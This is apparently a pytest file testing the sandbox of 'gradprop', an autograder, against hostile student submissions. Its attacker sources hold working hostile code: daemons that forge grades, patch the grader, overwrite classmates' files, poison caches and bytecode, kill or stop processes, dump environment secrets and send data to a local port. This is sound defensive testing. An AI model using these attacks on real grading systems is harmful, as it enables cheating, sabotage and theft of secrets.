"""Hostile submissions graded beside honest ones: each attack of issue 8 is a test here.

One ``gradprop grade`` run (a subprocess, as an instructor runs it) grades two honest
submissions and every attacker together. Each attacker also defines a correct ``MulLayer``, so
that what its layers earn is known: 1.00 of the 3 items counted. Every attack aims only at this
test's own folders and processes (paths and pids are written into the attackers' source), so
that a broken sandbox harms nothing but this test.

After the run: the honest students keep exactly their honest grades, each attacker gets exactly
what its layers earn, no file outside the output folder changed, no process of the run is left,
and the run ended with a grades.csv.
"""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

import gradprop
from gradprop.isolation import probe
from gradprop.properties.registry import ITEMS
from test_sandbox import live_processes_mentioning

#: the items every test here counts; the rubrics turn every other item of the registry off
COUNTED = ("MulLayer", "AddLayer", "Relu")
RUBRIC = "".join(f"[items.{item.name}]\ncount = false\n" for item in ITEMS if item.name not in COUNTED)
FLAGS = ["--max-examples", "3", "--time-limit", "2", "--memory-mb", "1024", "-j", "2"]
SECRET = "gradprop-test-secret-9f2c"


def counting(*names: str):
    """A rubric that counts ``names`` and turns every other item of the registry off."""
    from gradprop.grading import Rubric

    return Rubric.from_dict({"items": {i.name: {"count": False} for i in ITEMS if i.name not in names}})

#: what every attacker's layers earn: MulLayer only
MUL_ONLY = '''
import numpy as np

class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y
    def backward(self, dout):
        return dout * self.y, dout * self.x
'''

HONEST = MUL_ONLY + '''
class AddLayer:
    def forward(self, x, y):
        return x + y
    def backward(self, dout):
        return dout * 1, dout * 1

class Relu:
    def forward(self, x):
        self.mask = x <= 0
        out = x.copy()
        out[self.mask] = 0
        return out
    def backward(self, dout):
        dx = dout.copy()
        dx[self.mask] = 0
        return dx
'''

PRELUDE = '''
import os, signal, socket, sys, time

def _try(fn, *args):
    try:
        return fn(*args)
    except BaseException as exc:
        return exc

def _listdir(path):
    found = _try(os.listdir, path)
    return found if isinstance(found, list) else []

def _daemon(body):
    """Double-fork a setsid daemon that runs ``body`` for a while, outliving the grading run."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                body()
            finally:
                os._exit(0)
        os._exit(0)

_OWN_SESSIONS = {os.getsid(0)}

def _pids_mentioning(marker):
    """Processes of this test only (their command line names the test's folder), not our own."""
    _OWN_SESSIONS.add(os.getsid(0))
    found = []
    for entry in _listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            data = _try(lambda: open(f"/proc/{entry}/cmdline", "rb").read())
            sid = _try(os.getsid, int(entry))
            if isinstance(data, bytes) and marker.encode() in data and sid not in _OWN_SESSIONS:
                found.append(int(entry))
    return found
'''


def attackers(t: dict[str, str]) -> dict[str, str]:
    """name -> source; ``t`` holds this test's paths and pids."""
    return {
        # 1. raise its own grade after the run: a daemon rewrites its row and results.json
        "rewrites_grades": f'''
def _forge():
    deadline = time.time() + 25
    while time.time() < deadline:
        _try(lambda: open({t["out"]!r} + "/grades.csv", "a").write("rewrites_grades,3.00,3.00,1.00,1.00,1.00\\n"))
        _try(lambda: open({t["out"]!r} + "/rewrites_grades/results.json", "w").write('{{"score": 3.0}}'))
        time.sleep(0.2)
_daemon(_forge)
''',
        # 2. swap the grader's code (a new module, and the mtime of an existing one), then kill its
        #    grading process so that a fresh one would import the patched code
        "patches_grader": f'''
_try(lambda: open({t["package"]!r} + "/zz_attack_{t['fid']}.py", "w").write("x = 1\\n"))
_try(os.utime, {t["package"]!r} + "/grading.py", (0, 0))
_try(lambda: open({t["package"]!r} + "/grading.py", "a"))
_try(os.kill, os.getppid(), signal.SIGKILL)
''',
        # 3. zero a classmate: overwrite their file, and show their code in our feedback
        "zeroes_classmates": f'''
print("THEIR CODE:", _try(lambda: open({t["honest"]!r}).read()))
_try(lambda: open({t["honest"]!r}, "a").write("\\nraise SystemExit\\n"))
_try(lambda: open({t["honest2"]!r}, "w").write("raise SystemExit\\n"))
''',
        # 4. poison the compile cache for the next run
        "poisons_cache": f'''
for root, dirs, files in _try(os.walk, {t["cache"]!r}) or []:
    for f in files:
        _try(lambda: open(os.path.join(root, f), "wb").write(b"garbage"))
_try(lambda: open({t["cache"]!r} + "/planted", "w").write("x"))
''',
        # 5. kill the siblings: every process of this test's run, and a victim of the test's
        "kills_siblings": f'''
def _kill_all():
    for _ in range(50):
        for pid in _pids_mentioning({t["tag"]!r}) + [{t["victim"]}]:
            _try(os.kill, pid, signal.SIGKILL)
        time.sleep(0.1)
_daemon(_kill_all)
_try(os.kill, os.getppid(), signal.SIGKILL)
''',
        # 6. hang the run: stop the grading process, the CLI and the victim
        "stops_the_run": f'''
for pid in [os.getppid()] + _pids_mentioning({t["tag"]!r}) + [{t["victim"]}]:
    _try(os.kill, pid, signal.SIGSTOP)
''',
        # 7. crash the writer: lone surrogates and terminal escapes in printed text and messages
        "bad_text": '''
print("\\udc80 \\x1b[2J\\x1b]0;pwned\\x07 \\r\\u202e")
sys.stderr.write("\\udcff")
class AddLayer:
    def forward(self, x, y):
        raise ValueError("\\udc80\\x1b[31m red \\x00")
''',
        # 8. secrets, the network, and processes that outlive the run or its memory limit
        "reads_secrets": f'''
print("ENV:", dict(os.environ))
for pid in _listdir("/proc"):
    if pid.isdigit():
        print(pid, _try(lambda: open(f"/proc/{{pid}}/environ", "rb").read()))
s = socket.socket()
print("TCP:", _try(s.connect, ("127.0.0.1", {t["port"]})), _try(s.sendall, b"exfiltrated"))
''',
        "outlives_the_run": '''
_daemon(lambda: time.sleep(120))
if os.fork() == 0:
    time.sleep(120)
    os._exit(0)
''',
        # 9. poison the bytecode of the sandbox's own modules, which the next box would load: the
        #    grader's compiled files on the host, and where the box binds them
        "poisons_bytecode": f'''
import glob
for path in glob.glob({t["pyc"]!r} + "/*") + glob.glob("/gradprop/lib/gradprop/__pycache__/*"):
    _try(lambda: open(path, "ab").write(b"garbage"))
for folder in ({t["pyc"]!r}, "/gradprop/lib/gradprop/__pycache__"):
    _try(lambda: open(folder + "/planted.pyc", "w").write("x"))
''',
        "outgrows_memory": '''
for _ in range(6):   # each under the per-process cap, together far above --memory-mb
    if os.fork() == 0:
        blocks = [bytearray(1 << 20) for _ in range(300)]
        time.sleep(60)
        os._exit(0)
''',
    }


def snapshot(folder: Path) -> dict[str, str]:
    """Every file below ``folder`` and a hash of its bytes and mtime."""
    out = {}
    for p in sorted(folder.rglob("*")):
        if p.is_file() and "__pycache__" not in p.parts:
            st = p.stat()
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest() + f":{st.st_mtime_ns}"
    return out


class Listener:
    """A TCP server on 127.0.0.1 that records whether anyone connected."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.done = False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.done:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.done = True
        self.thread.join()
        self.sock.close()


def grade_run(paths: list[str], out: Path, env: dict[str, str], *extra: str, timeout: float = 600):
    return subprocess.run([sys.executable, "-m", "gradprop.cli", "grade", *paths, "--out", str(out), *FLAGS, *extra],
                          capture_output=True, text=True, env=env, timeout=timeout, stdin=subprocess.DEVNULL)


#: the isolation layers switched off (``GRADPROP_ISOLATION_OFF``) in each mode that ``gradprop
#: grade`` accepts on this kind of machine (root, every layer there): every attack must fail in
#: each. Without namespaces, Python here (under a 0700 home) cannot be read by another uid, so
#: the child would run as root: that mode is refused (test_a_machine_without_a_layer_is_refused).
ACCEPTED_MODES = ["", "landlock", "cgroup", "landlock,cgroup"]


@pytest.fixture(scope="module", params=ACCEPTED_MODES, ids=lambda off: f"off={off or 'none'}")
def run(request, tmp_path_factory):
    """One grading run of two honest submissions and every attacker, with the layers ``off``."""
    off = request.param
    if off and not _accepted(off):
        pytest.skip(f"this machine has no mode that grades with {off} off")
    root = tmp_path_factory.mktemp("attacks")
    tag = str(root)  # every process of this run names it: the CLI, its workers, each box
    fid = hashlib.sha256(tag.encode()).hexdigest()[:12]
    subs, out, cache, tmp = root / "subs", root / "out", root / "jax-cache", root / "tmp"
    for d in (subs, cache, tmp):
        d.mkdir()
    (cache / "entry").write_bytes(b"a compiled program")
    (root / "rubric.toml").write_text(RUBRIC)
    honest, honest2 = subs / "honest.py", subs / "honest_too.py"
    honest.write_text(HONEST)
    honest2.write_text(HONEST)
    victim = subprocess.Popen(["sleep", "600"])
    listener = Listener()
    pyc = root / "xdg" / "gradprop" / "pyc"  # the child modules' bytecode (isolation.child_bytecode)
    targets = {"out": str(out), "package": os.path.dirname(gradprop.__file__), "honest": str(honest),
               "honest2": str(honest2), "cache": str(cache), "victim": str(victim.pid), "port": str(listener.port),
               "tag": tag, "fid": fid, "pyc": str(pyc)}
    names = attackers(targets)
    for name, body in names.items():
        (subs / f"{name}.py").write_text(PRELUDE + textwrap.dedent(body) + MUL_ONLY)
    env = {**os.environ, "TMPDIR": str(tmp), "GRADPROP_JAX_CACHE": str(cache), "GRADPROP_STORE": str(cache),
           "GRADPROP_SECRET": SECRET,  # the expected values the grader trusts live in the poisoner's reach
           "GRADPROP_ISOLATION_OFF": off, "XDG_CACHE_HOME": str(root / "xdg")}
    # the bytecode written before the run, as an earlier run leaves it, so that any change shows
    subprocess.run([sys.executable, "-c", "from gradprop.isolation import child_bytecode; child_bytecode()"],
                   env=env, check=True)
    assert len(list(pyc.glob("*.pyc"))) > 1
    before = {**snapshot(subs), **snapshot(cache), **snapshot(Path(targets["package"])), **snapshot(pyc)}
    try:
        proc = grade_run([str(p) for p in sorted(subs.glob("*.py"))], out, env, "--rubric", str(root / "rubric.toml"))
        time.sleep(1)  # a surviving daemon's time to do harm: five of the slowest attacker's tries
        after = {**snapshot(subs), **snapshot(cache), **snapshot(Path(targets["package"])), **snapshot(pyc)}
        survivors = live_processes_mentioning(tag)
        victim_state = victim.poll()
        yield {"proc": proc, "out": out, "names": names, "before": before, "after": after, "tag": tag,
               "survivors": survivors, "victim": victim_state, "listener": listener.connections, "off": off}
    finally:
        victim.kill()
        victim.wait()
        listener.close()
        for pid in live_processes_mentioning(tag):
            os.kill(pid, signal.SIGCONT)
            os.kill(pid, signal.SIGKILL)
        leftover = Path(targets["package"]) / f"zz_attack_{fid}.py"
        if leftover.exists():
            leftover.unlink()


def sheet(out: Path) -> dict[str, list[str]]:
    rows = list(csv.reader(io.StringIO((out / "grades.csv").read_text(encoding="utf-8"))))
    return {row[0]: row for row in rows[1:]}


def test_the_run_ends_with_a_whole_grade_sheet(run):
    assert run["proc"].returncode == 0, run["proc"].stderr[-3000:]
    rows = sheet(run["out"])
    assert set(rows) == {"honest", "honest_too", *run["names"]}


def test_honest_students_keep_exactly_their_honest_grades(run):
    rows = sheet(run["out"])
    for name in ("honest", "honest_too"):
        assert rows[name][1:] == ["3.00", "3.00", "1.00", "1.00", "1.00"], rows[name]
        doc = json.loads((run["out"] / name / "results.json").read_text(encoding="utf-8"))
        assert doc["score"] == 3.0


@pytest.mark.parametrize("name", sorted(attackers({k: "0" for k in (
    "out", "package", "honest", "honest2", "cache", "victim", "port", "tag", "fid", "pyc")})))
def test_an_attacker_gets_what_its_layers_earn_and_no_more(run, name):
    row = sheet(run["out"])[name]
    doc = json.loads((run["out"] / name / "results.json").read_text(encoding="utf-8"))
    if name == "outgrows_memory":  # the kernel may kill its MulLayer's process too: never more than 1
        assert float(row[1]) <= 1.0 and doc["score"] <= 1.0, row
        return
    assert row[1:] == ["1.00", "3.00", "1.00", "0.00", "0.00"], row
    assert doc["score"] == 1.0 and [t["score"] for t in doc["tests"]] == [1.0, 0.0, 0.0]


def test_no_file_outside_the_output_folder_changed(run):
    changed = sorted(k for k in run["before"] if run["before"][k] != run["after"].get(k))
    assert changed == []
    # new files only where the grader itself writes: its compile cache (not the attacker's "planted")
    added = sorted(k for k in set(run["after"]) - set(run["before"]) if "jax-cache" not in k or k.endswith("planted"))
    assert added == []


def test_no_process_of_the_run_survives_it_and_no_victim_was_touched(run):
    assert run["survivors"] == []
    assert run["victim"] is None, "the test's own sleep process was killed"


def test_no_secret_reaches_the_feedback_and_no_connection_was_made(run):
    for path in run["out"].rglob("*.json"):
        text = path.read_text(encoding="utf-8")
        assert SECRET not in text
        assert "THEIR CODE: \\nimport numpy" not in text and "class AddLayer" not in text
    assert run["listener"] == 0


def test_hostile_text_is_made_safe_in_every_output(run):
    raw = (run["out"] / "bad_text" / "results.json").read_bytes()
    text = raw.decode("utf-8")  # valid UTF-8
    assert "\x1b" not in text and "\udc80" not in text and "\\u001b" not in text and "\\u0000" not in text
    doc = json.loads(text)
    assert "red" in doc["tests"][1]["output"]  # the message is there, made harmless
    assert "\x1b" not in run["proc"].stdout + run["proc"].stderr


def test_isolation_in_force_is_printed_and_recorded(run):
    on = [layer for layer in probe().on if layer not in run["off"].split(",")]
    assert f"isolation: {', '.join(on)}" in run["proc"].stderr
    doc = json.loads((run["out"] / "honest" / "results.json").read_text(encoding="utf-8"))
    assert doc["extra_data"]["gradprop"]["isolation"]["on"] == on
    assert doc["extra_data"]["gradprop"]["isolation"]["mode"] == "auto"
    assert (run["out"] / "grades.csv").read_text(encoding="utf-8").splitlines()[0].split(",")[-1] == "Relu"


def _accepted(off: str) -> bool:
    """Whether ``gradprop grade`` (mode auto) grades on this machine with the layers ``off``."""
    code = "import gradprop.isolation as i; i.probe().require('auto')"
    return subprocess.run([sys.executable, "-c", code], env={**os.environ, "GRADPROP_ISOLATION_OFF": off},
                          capture_output=True).returncode == 0


# --- the working folder: nothing in it is imported by a grading process --------------------------

#: modules every grading process imports (or may): a submission named like one of them, in the
#: folder the instructor grades from, must never stand in for it
SHADOWED = ("gradprop", "numpy", "hypothesis", "jax", "pytest", "properties", "layers")


def gradprop_command() -> list[str]:
    """The ``gradprop`` an instructor types (the console script, which puts no working folder on
    sys.path); ``python -P -m gradprop.cli`` where this environment has no script."""
    script = Path(sys.executable).parent / "gradprop"
    return [str(script)] if script.is_file() else [sys.executable, "-P", "-m", "gradprop.cli"]


def test_a_submission_named_like_a_module_never_runs_in_the_grader(tmp_path):
    """``cd submissions && gradprop grade *.py``: each file is a submission, graded in its box,
    and none of them is imported by the CLI, the fork server or a worker (which would run it
    with the instructor's rights, outside the sandbox)."""
    subs, marker = tmp_path / "subs", tmp_path / "ran-outside-the-sandbox"
    subs.mkdir()
    for name in SHADOWED:
        (subs / f"{name}.py").write_text(textwrap.dedent(f'''
            try:  # the sandbox cannot reach this file: it is written only from outside it
                open({str(marker)!r}, "a").write("{name}\\n")
            except OSError:
                pass
        ''') + MUL_ONLY)
    (subs / "layers").mkdir()  # a package too, as a folder of a student's files is
    (subs / "layers" / "__init__.py").write_text((subs / "layers.py").read_text())
    (subs / "layers.py").unlink()
    (tmp_path / "rubric.toml").write_text(RUBRIC)
    out = tmp_path / "out"
    proc = subprocess.run([*gradprop_command(), "grade", *sorted(os.listdir(subs)), "--out", str(out), *FLAGS,
                           "--rubric", str(tmp_path / "rubric.toml")], cwd=subs, capture_output=True, text=True,
                          env={**os.environ, "TMPDIR": str(tmp_path)}, timeout=600, stdin=subprocess.DEVNULL)
    assert not marker.exists(), marker.read_text()
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert {name: row[1:3] for name, row in sheet(out).items()} == {name: ["1.00", "3.00"] for name in SHADOWED}


# --- determinism: clocks, entropy and files next to the submission -----------------------------

FICKLE = '''
import os, time
import numpy as np

SEEN = [os.path.join(os.path.dirname(os.path.abspath(__file__)), "seen.txt"),   # next to itself
        os.path.expanduser("~/seen.txt"), os.path.join(os.environ.get("TMPDIR", "/tmp"), "seen.txt")]
EARLIER_RUN = any(os.path.exists(p) for p in SEEN)   # a file left by an earlier run
for p in SEEN:
    try:
        open(p, "w").write("seen")
    except OSError:
        pass   # its own folder is read-only

class MulLayer:
    """Now and then wrong, by the clock or by an unseeded generator's whim."""
    def forward(self, x, y):
        self.x, self.y = x, y
        wrong = int(time.time() * 1e6) % 7 == 0 or np.random.default_rng().random() < 0.05
        return x * y * (2.0 if wrong else 1.0)
    def backward(self, dout):
        return dout * self.y, dout * self.x

class AddLayer:
    """Right on a first run, wrong on every later one."""
    def forward(self, x, y):
        return x + y + (1.0 if EARLIER_RUN else 0.0)
    def backward(self, dout):
        return dout * 1, dout * 1
'''


def test_a_fickle_submission_gets_the_same_grade_and_feedback_on_every_run(tmp_path):
    from gradprop.grading import GradeOptions, grade_submission

    path = tmp_path / "fickle.py"
    path.write_text(FICKLE)
    rubric = counting("MulLayer", "AddLayer")
    options = GradeOptions(rubric=rubric, max_examples=10, time_limit=5.0)
    runs = [grade_submission(path, options) for _ in range(3)]
    outcomes = [[(r.score, r.tags, r.output) for r in run.items] for run in runs]
    assert outcomes[0] == outcomes[1] == outcomes[2]
    assert runs[0].items[1].score == 1  # AddLayer: every run is a first run
    assert not (tmp_path / "seen.txt").exists()  # it wrote into its scratch copy, not here


# --- the CLI: bad values, odd names, interruptions, a wedged worker ------------------------------


@pytest.mark.parametrize("flags, error", [
    (["--time-limit", "nan"], "--time-limit must be"),
    (["--time-limit", "inf"], "--time-limit must be"),
    (["--time-limit", "1e-9"], "--time-limit must be"),
    (["--memory-mb", "0"], "--memory-mb must be at least"),
    (["--memory-mb", "-1"], "--memory-mb must be at least"),
    (["-j", "-3"], "-j must be at least 1"),
    (["-j", "0"], "-j must be at least 1"),
])
def test_bad_values_are_clear_errors(tmp_path, capsys, flags, error):
    from gradprop import cli

    sub = tmp_path / "s.py"
    sub.write_text(HONEST)
    assert cli.main(["grade", str(sub), "--out", str(tmp_path / "out"), *flags]) == 2
    assert error in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_an_output_path_that_is_a_file_and_a_nameless_submission_are_clear_errors(tmp_path, capsys, monkeypatch):
    from gradprop import cli

    (tmp_path / "s.py").write_text(HONEST)
    (tmp_path / "taken").write_text("not a folder")
    assert cli.main(["grade", str(tmp_path / "s.py"), "--out", str(tmp_path / "taken")]) == 2
    assert "exists and is not a folder" in capsys.readouterr().err
    inner = tmp_path / "a" / "b"
    inner.mkdir(parents=True)
    monkeypatch.chdir(inner)
    assert cli.main(["grade", "..", "--out", str(tmp_path / "out")]) == 2
    assert "not a relative path like '..'" in capsys.readouterr().err
    assert not (tmp_path / "out").exists() and not (tmp_path / "a" / "results.json").exists()


def test_odd_file_names_cannot_stop_the_run(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    latin1 = os.path.join(os.fsencode(subs), b"caf\xe9.py")  # an LMS export that is not UTF-8
    with open(latin1, "wb") as f:
        f.write(MUL_ONLY.encode())
    (subs / "grades.csv.tmp.py").write_text(MUL_ONLY)
    (tmp_path / "rubric.toml").write_text(RUBRIC)
    out = tmp_path / "out"
    paths = [os.fsdecode(latin1), str(subs / "grades.csv.tmp.py")]
    proc = grade_run(paths, out, {**os.environ, "TMPDIR": str(tmp_path)}, "--rubric", str(tmp_path / "rubric.toml"))
    assert proc.returncode == 0, proc.stderr[-2000:]
    rows = sheet(out)
    assert rows["caf\ufffd"][1] == "1.00" and rows["grades.csv.tmp"][1] == "1.00"
    assert os.path.isfile(os.path.join(os.fsencode(out), b"caf\xe9", b"results.json"))


def test_ctrl_c_keeps_what_finished_and_a_rerun_grades_only_the_rest(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "a.py").write_text(HONEST)
    # b takes 30 s to import: the interrupt comes while it is graded, however fast the grader
    (subs / "b.py").write_text("import time\ntime.sleep(30)\n" + HONEST)
    (subs / "c.py").write_text(HONEST)
    (tmp_path / "rubric.toml").write_text(RUBRIC)
    out = tmp_path / "out"
    cmd = [sys.executable, "-m", "gradprop.cli", "grade", *map(str, sorted(subs.glob("*.py"))), "--out", str(out),
           "--max-examples", "3", "-j", "1", "--time-limit", "60", "--rubric", str(tmp_path / "rubric.toml")]
    env = {**os.environ, "TMPDIR": str(tmp_path)}
    # Ctrl-C as a terminal's foreground job gets it: a run started in the background of a
    # non-interactive shell (as CI scripts may be) inherits SIGINT ignored, and rightly keeps it so.
    # SIGINT's default is set, then the grader exec'd (no preexec_fn: this process has threads)
    foreground = [sys.executable, "-c", "import os, signal, sys; signal.signal(signal.SIGINT, signal.SIG_DFL); "
                  "os.execv(sys.executable, sys.argv[1:])"]
    proc = subprocess.Popen(foreground + cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 300
    while not (out / "a" / "results.json").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, (proc.returncode, err[-3000:])
    assert "interrupted" in err
    finished = sheet(out)
    assert "a" in finished and finished["a"][1] == "3.00"
    assert live_processes_mentioning(str(tmp_path)) == []
    (subs / "b.py").write_text(HONEST)  # b was not finished: graded again as it is now
    again = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=600)
    assert again.returncode == 0
    assert f"{len(finished)} submission(s) kept from an earlier run" in again.stderr
    assert {n: r[1] for n, r in sheet(out).items()} == {"a": "3.00", "b": "3.00", "c": "3.00"}


def test_a_stopped_worker_is_killed_and_its_submission_tried_again(tmp_path, monkeypatch):
    """The attack (SIGSTOP of a worker) cannot come from a submission any more; the CLI must still
    never wait without a timeout. The test stops the first worker that starts a job."""
    from gradprop import cli
    from gradprop.grading import GradeOptions, Rubric

    (tmp_path / "s.py").write_text(HONEST)
    rubric = Rubric.load(_write(tmp_path / "rubric.toml", RUBRIC))
    options = GradeOptions(rubric=rubric, max_examples=3)
    stopped: list[int] = []
    real_deadline = cli._Worker.deadline

    def deadline(self, opts):
        if self.started_at is not None and not stopped:
            os.kill(self.proc.pid, signal.SIGSTOP)  # wedged right after it said "started"
            stopped.append(self.proc.pid)
        if self.proc.pid in stopped:  # the wedged one: no need to wait its whole budget
            return self.started_at + 1.0
        return real_deadline(self, opts)  # the retry gets the real deadline (a busy machine is slow)

    monkeypatch.setattr(cli._Worker, "deadline", deadline)
    results = cli.grade_all([("s", str(tmp_path / "s.py"))], options, 1, lambda r: None)
    assert stopped and not os.path.exists(f"/proc/{stopped[0]}/status")  # killed (and reaped)
    assert [float(r.score) for r in results] == [3.0]


def test_a_malformed_reply_costs_its_item_only(tmp_path):
    from gradprop.grading import GradeOptions, grade_submission

    path = tmp_path / "forger.py"
    path.write_text(MUL_ONLY.replace("        return dout * self.y, dout * self.x", '''        import os, sys, struct
        fd = int(sys.argv[-2])  # the reply pipe: forge a frame the parent must refuse
        head = b'{"ok": true, "value": {"a": ["<f8", [3, 99999999999]]}, "args": {"t": []}, "aliases": [[1]]}'
        os.write(fd, struct.pack("<4sQQ", b"GPW1", len(head), 8) + head + bytes(8))
        return dout * self.y, dout * self.x''') + "\nclass AddLayer:" + HONEST.split("class AddLayer:")[1].split("class Relu:")[0])
    rubric = counting("MulLayer", "AddLayer")
    result = grade_submission(path, GradeOptions(rubric=rubric, max_examples=3))
    mul, add = result.items
    assert mul.score == 0 and "malformed reply" in mul.output
    assert add.score == 1 and not result.errors


#: a rubric counting MulLayer and AddLayer only
MUL_ADD = {"items": {n: {"count": False} for n in (
    "Relu", "Sigmoid", "Affine", "softmax", "cross_entropy_error", "SoftmaxWithLoss", "TwoLayerNet", "Dropout",
    "BatchNormalization", "Convolution", "Pooling")}}
ADD_LAYER = "\nclass AddLayer:" + HONEST.split("class AddLayer:")[1].split("class Relu:")[0]


@pytest.mark.parametrize("name, body, says", [
    # a value numpy cannot take: its own finding, not a blank row
    ("huge_int", MUL_ONLY.replace("return x * y", "return 2 ** 3999"), "too large for float64"),
    # a forged reply whose arguments come back as ragged lists instead of the arrays sent
    ("ragged_args", MUL_ONLY.replace("        return dout * self.y, dout * self.x", '''        import os, sys, struct
        fd = int(sys.argv[-2])
        head = (b'{"ok": true, "value": {"t": [1.0, 2.0]}, "args": {"t": [[[1.0, 2.0], [3.0]]]}, '
                b'"aliases": []}')
        os.write(fd, struct.pack("<4sQQ", b"GPW1", len(head), 0) + head)
        return dout * self.y, dout * self.x'''), "malformed reply"),
])
def test_whatever_a_submission_sends_back_is_its_own_finding(tmp_path, name, body, says):
    from gradprop.grading import GradeOptions, Rubric, grade_submission

    path = tmp_path / f"{name}.py"
    path.write_text(body + ADD_LAYER)
    result = grade_submission(path, GradeOptions(rubric=Rubric.from_dict(MUL_ADD), max_examples=3))
    mul, add = result.items
    assert not result.errors and result.csv_row()[1] != ""  # a row with a grade, not blanks
    assert mul.score < 1 and mul.status == "failed" and says in mul.output  # the checks it fails cost marks
    assert add.score == 1


def test_an_exception_of_the_grader_is_judged_against_gradprops_own_layers():
    """run_check: what a check raises on a layer set's values, where gradprop's own layers pass
    the same check on the same input, is that layer set's finding; where ours fail too, ours."""
    from gradprop.findings import Finding
    from gradprop.properties import runner
    from gradprop.properties.checks import Target
    from gradprop.properties.model import Property
    from gradprop.properties.registry import REGISTRY
    from gradprop.session import InProcessSession

    theirs = InProcessSession({"MulLayer": object})
    target = Target(theirs, REGISTRY["MulLayer"], "MulLayer", "theirs")

    def only_theirs(t, case, explain=False):
        if t.session is theirs:
            raise OverflowError("int too large to convert to float")

    def always(t, case, explain=False):
        raise KeyError("a bug of ours")

    with pytest.raises(Finding) as found:
        runner.run_check(target, Property("p", "core", only_theirs, "about"), None)
    assert found.value.tag == "exception" and "OverflowError" in found.value.message
    assert "gradprop's own MulLayer passes this check" in found.value.message
    with pytest.raises(KeyError):
        runner.run_check(target, Property("p", "core", always, "about"), None)


def test_a_fault_of_gradprops_own_is_graded_again(tmp_path, monkeypatch):
    from gradprop import grading
    from gradprop.grading import GradeOptions, Rubric, grade_submission

    calls = []
    real = grading.evaluate

    def flaky(*args):
        calls.append(1)
        if len(calls) == 1:
            raise MemoryError("a passing fault of ours")
        return real(*args)

    monkeypatch.setattr(grading, "evaluate", flaky)
    (tmp_path / "s.py").write_text(HONEST)
    result = grade_submission(tmp_path / "s.py", GradeOptions(rubric=Rubric.from_dict(MUL_ADD), max_examples=2))
    assert not result.errors and result.score == 2 and len(calls) == 4  # each item of each of the two gradings


# --- disk, autodiff and gradprop's own answers ------------------------------------------------------


def test_a_submission_cannot_fill_the_disk(tmp_path):
    """Five files of 250 MB: each under the per-file limit, together far over the scratch quota.
    The write fails with a finding that says why, and nothing of it reaches the host's disk."""
    from gradprop.grading import GradeOptions, Rubric, grade_submission
    from gradprop.isolation import SCRATCH_MB

    if "namespaces" not in probe().on:
        pytest.skip("the scratch quota is a tmpfs of the child's mount namespace")
    path = tmp_path / "fills.py"
    path.write_text(MUL_ONLY.replace("        return x * y", '''        import os
        for i in range(5):
            with open(os.path.join(os.environ["HOME"], f"big{i}"), "wb") as f:
                for _ in range(250):
                    f.write(bytes(1 << 20))
        return x * y''') + ADD_LAYER)
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    free = os.statvfs(tmp)
    result = grade_submission(path, GradeOptions(rubric=Rubric.from_dict(MUL_ADD), max_examples=2))
    mul, add = result.items
    assert mul.score == 0 and "exception" in mul.tags and f"may write {SCRATCH_MB} MB in all" in mul.output
    assert add.score == 1 and not result.errors
    assert os.statvfs(tmp).f_bfree * free.f_frsize > free.f_bfree * free.f_frsize - (200 << 20)


AUTODIFF_MUL = '''
import numpy as np
import jax
jax.config.update("jax_enable_x64", True)   # at the top of the file: nothing while it loads

class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y
    def backward(self, dout):
        _, vjp = jax.vjp(lambda a, b: a * b, self.x, self.y)   # autodiff instead of the chain rule
        return tuple(np.asarray(g) for g in vjp(dout))
'''


@pytest.mark.parametrize("forbid, mul", [(None, 0.0), ([], 1.0)], ids=["default", "allowed"])
def test_autodiff_is_a_finding_unless_the_rubric_allows_it(tmp_path, forbid, mul):
    from gradprop.grading import GradeOptions, Rubric, grade_submission

    path = tmp_path / "autodiff.py"
    path.write_text(AUTODIFF_MUL + ADD_LAYER)
    rubric = Rubric.from_dict({**MUL_ADD, **({} if forbid is None else {"forbid": forbid})})
    result = grade_submission(path, GradeOptions(rubric=rubric, max_examples=2))
    got, add = result.items
    assert (float(got.score), float(add.score)) == (mul, 1.0) and not result.errors
    if forbid is None:
        assert got.tags == ("forbidden-import",)
        assert "jax.vjp is not allowed in this assignment (the rubric forbids jax)" in got.output
        assert "imports jax, which this assignment forbids" in result.output


def test_gradprops_own_layers_and_references_are_out_of_reach(tmp_path):
    """Inside the box, gradprop's correct layers and JAX references can neither be imported nor read."""
    from gradprop.grading import GradeOptions, Rubric, grade_submission
    import gradprop.layers
    import gradprop.reference

    files = [gradprop.layers.__file__, gradprop.reference.__file__, gradprop.__file__]
    path = tmp_path / "borrows.py"
    path.write_text(textwrap.dedent(f'''
        import numpy as np
        try:
            from gradprop.layers import MulLayer
        except ImportError:
            pass
        def read():
            found = []
            for f in {files!r}:
                try:
                    found.append(open(f).read()[:20])
                except OSError:
                    pass
            return found
    ''') + ADD_LAYER)
    from gradprop.sandbox import SandboxSession

    with SandboxSession(path) as s:
        assert not s.defines("MulLayer")
        assert s.call("read", None).value == []
    result = grade_submission(path, GradeOptions(rubric=Rubric.from_dict(MUL_ADD), max_examples=2))
    assert [float(r.score) for r in result.items] == [0.0, 1.0] and result.items[0].tags == ("not-found",)


@pytest.mark.parametrize("doc, message", [
    ({"default_weight": 1e400}, "weight must be a finite number"),
    ({"default_weight": float("nan")}, "weight must be a finite number"),
    ({"items": {"Affine": {"weight": 1e300}}}, "weight must be at most"),
